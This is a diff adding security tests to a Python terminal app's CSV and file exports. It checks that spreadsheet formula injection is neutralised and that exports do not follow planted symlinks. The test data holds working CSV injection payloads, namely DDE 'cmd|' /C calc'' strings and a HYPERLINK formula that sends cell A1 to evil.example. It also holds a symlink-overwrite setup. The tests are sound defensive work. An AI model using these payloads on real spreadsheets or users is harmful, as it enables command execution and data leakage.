@@ -4,21 +4,31 @@ CSV cell or an export file is inert, and the key is nowhere in it."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import signal
 import subprocess
 import sys
-from collections.abc import Iterator
+import time
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager
 from pathlib import Path
 
 import pytest
-from conftest import QUICK, screen_text, toasts, until
+from conftest import QUICK, FakeClock, screen_text, toasts, until
 from hostile_api import FORBIDDEN, HOSTILE, HostileApi
 from teamprocs import child_env, serve_process, wait_for
+from textual.pilot import Pilot
 
+import wahdx_tui.cli as cli
 from wahdx_tui.core.client import client_factory
 from wahdx_tui.core.engine import Engine
+from wahdx_tui.core.export import NAMES_TRIED, write_export
+from wahdx_tui.core.model import PostStatus, State
 from wahdx_tui.core.secret import ApiKey
+from wahdx_tui.core.store import Store, Transition, scope_for
 from wahdx_tui.core.watchlist import load_watchlist, sample_watchlist_path
 from wahdx_tui.ui.app import BoardApp
 from wahdx_tui.ui.screens import DetailScreen
@@ -148,3 +158,124 @@ async def test_a_key_echoed_by_the_api_is_not_on_the_board() -> None:
             assert "HTTP 500" in shown and KEY not in shown
             assert all(KEY not in message for _, message in toasts(app))
     assert api.keys and all(k == KEY for k in api.keys)  # it was sent, and only there
+
+
+# -- 4 and 5. the board's exports, and every CSV ---------------------------------------------------
+
+FORMULA_LABELS = ("+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =2+2")
+FORMULA_ERROR = '-1+HYPERLINK("http://evil.example/?"&A1,"click me")'
+FORMULA_WATCHLIST = "posts:\n" + "".join(
+    f"  - {{accountId: {json.dumps(account)}, publishId: p{i}, label: {json.dumps(label)}}}\n"
+    for i, (account, label) in enumerate(
+        zip(("acc_a", "acc_b", "-2+3", "=acc"), FORMULA_LABELS, strict=True)
+    )
+)
+NOW = 1_700_000_000.0
+
+
+def assert_no_live_formula(text: str) -> list[dict[str, str]]:
+    """Every cell of a CSV text is inert in a spreadsheet; the records."""
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_checks_csv_defuses_every_formula_start(tmp_path: Path) -> None:
+    """`-1+HYPERLINK(...)` from the API and a label `+1+cmd|...` were written live: a
+    digit after the sign was taken for a number."""
+    watchlist = tmp_path / "w.yaml"
+    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
+    with HostileApi(failed_with=FORMULA_ERROR) as api:
+        proc = check(api, str(watchlist), "--format", "csv")
+    assert proc.returncode == 1, proc.stderr
+    records = assert_no_live_formula(proc.stdout.decode())
+    assert [r["error"] for r in records] == ["'" + FORMULA_ERROR] * 4
+    assert [r["label"] for r in records][:2] == ["'" + label for label in FORMULA_LABELS[:2]]
+    assert [r["accountId"] for r in records][2:] == ["'-2+3", "'=acc"]
+
+
+def test_reports_csv_defuses_every_formula_start(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    watchlist = tmp_path / "w.yaml"
+    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
+    posts = load_watchlist(str(watchlist)).posts
+    scope = scope_for("https://api.wahdx.com")
+    with Store(tmp_path / "h.sqlite3") as store:
+        for post in posts:
+            status = PostStatus(post.key, State.FAILED, "failed", None, FORMULA_ERROR, NOW)
+            store.record(scope, [status], [Transition(post.key, None, State.FAILED, NOW)])
+    args = [str(watchlist), "--history", str(tmp_path / "h.sqlite3"), "--format", "csv"]
+    assert cli.main(["report", *args]) == 0
+    records = assert_no_live_formula(capsys.readouterr().out)
+    assert len(records) == 4 and all(r["reason"] == "'" + FORMULA_ERROR for r in records)
+
+
+@asynccontextmanager
+async def board_on_hostile(
+    watchlist: str, export_dir: Path, failed_with: str = FORMULA_ERROR
+) -> AsyncIterator[tuple[BoardApp, Pilot[int]]]:
+    """The board on `watchlist` against a HostileApi whose posts failed `failed_with`, after
+    its first pass, with its clock at NOW and its exports in `export_dir`."""
+    with HostileApi(failed_with=failed_with) as api:
+        engine = Engine(
+            load_watchlist(watchlist),
+            client_factory(api.base_url, ApiKey(KEY), QUICK),
+            interval=3600,
+            clock=FakeClock(NOW),
+        )
+        app = BoardApp(engine, bell=False, export_dir=export_dir)
+        async with app.run_test(size=(160, 40)) as pilot:
+            await until(lambda: app.passes >= 1 and not app.polling, "a pass", pilot=pilot)
+            yield app, pilot
+
+
+async def test_the_boards_export_defuses_every_formula_start(tmp_path: Path) -> None:
+    watchlist = tmp_path / "w.yaml"
+    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    async with board_on_hostile(str(watchlist), out) as (_app, pilot):
+        await pilot.press("x")
+    (exported,) = out.glob("*.csv")
+    records = assert_no_live_formula(exported.read_text(encoding="utf-8"))
+    assert len(records) == 4 and all(r["error"] == "'" + FORMULA_ERROR for r in records)
+
+
+async def test_an_export_never_follows_a_planted_symlink_nor_overwrites(tmp_path: Path) -> None:
+    """`x` wrote through a symlink planted under the next export's name, and the toast named
+    the link's target."""
+    out = tmp_path / "exports"
+    out.mkdir()
+    stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(NOW))
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me\n")
+    (out / f"wahdx-export-{stamp}.csv").symlink_to(tmp_path / "created-through-a-link.csv")
+    (out / f"wahdx-export-{stamp}-2.csv").symlink_to(victim)
+    (out / f"wahdx-export-{stamp}.json").write_text("someone else's\n")
+    async with board_on_hostile(WATCHLIST, out, "failed") as (app, pilot):
+        await pilot.press("x")
+        await pilot.press("X")
+        said = [message for _, message in toasts(app)]
+    assert not (tmp_path / "created-through-a-link.csv").exists()
+    assert victim.read_text() == "keep me\n"
+    assert (out / f"wahdx-export-{stamp}.json").read_text() == "someone else's\n"
+    made = [out / f"wahdx-export-{stamp}-3.csv", out / f"wahdx-export-{stamp}-2.json"]
+    for path in made:
+        assert not path.is_symlink() and path.stat().st_mode & 0o777 == 0o600
+        assert any(str(path) in message for message in said), said
+    assert all("victim" not in m and "created-through" not in m for m in said)
+    assert json.loads(made[1].read_text())[0]["state"] == "failed"
+
+
+def test_an_export_whose_every_name_is_taken_says_so(tmp_path: Path) -> None:
+    stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(NOW))
+    for n in range(1, NAMES_TRIED + 1):
+        name = f"wahdx-export-{stamp}.csv" if n == 1 else f"wahdx-export-{stamp}-{n}.csv"
+        (tmp_path / name).symlink_to(tmp_path / f"target-{n}")
+    with pytest.raises(OSError, match="names are taken") as info:
+        write_export([], "csv", tmp_path, NOW)
+    assert info.value.strerror and "taken" in info.value.strerror
+    assert not list(tmp_path.glob("target-*"))
